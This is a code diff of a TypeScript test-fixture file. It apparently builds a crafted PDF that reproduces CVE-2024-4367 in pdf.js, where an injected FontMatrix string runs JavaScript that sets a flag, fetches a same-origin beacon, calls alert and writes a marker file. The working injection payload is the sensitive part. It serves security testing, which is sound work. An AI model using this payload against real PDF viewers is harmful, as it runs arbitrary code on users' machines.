@@ -112,10 +112,12 @@ export function hugeImagePdf(): Buffer {
 /**
  * The shape of CVE-2024-4367 (pdf.js before 4.2.67 put a font's /FontMatrix into code it compiled
  * with `new Function` to draw glyphs): a Type1 font whose FontMatrix ends in a string that closes
- * the generated expression and runs JavaScript, here writing `marker`.
+ * the generated expression and runs JavaScript. Wherever it runs, the payload sets
+ * `globalThis.pwned`; in a browser (the viewer's page or pdf.js's worker) it also asks for
+ * `beacon` on the page's origin and calls `alert`; in Node it writes the file `marker`.
  */
-export function fontMatrixInjectionPdf(marker: string): Buffer {
-  const js = `1); (globalThis.process && process.getBuiltinModule ? process.getBuiltinModule('fs') : require('fs')).writeFileSync('${marker}', 'ran'); globalThis.pwned = true; (0`;
+export function fontMatrixInjectionPdf(marker: string, beacon = "/cve-2024-4367-ran"): Buffer {
+  const js = `1); globalThis.pwned = true; if (typeof fetch === 'function' && globalThis.location) fetch('${beacon}'); if (typeof alert === 'function') alert('CVE-2024-4367'); if (globalThis.process) (process.getBuiltinModule ? process.getBuiltinModule('fs') : require('fs')).writeFileSync('${marker}', 'ran'); (0`;
   return handmadePdf([
     "<< /Type /Catalog /Pages 2 0 R >>",
     "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
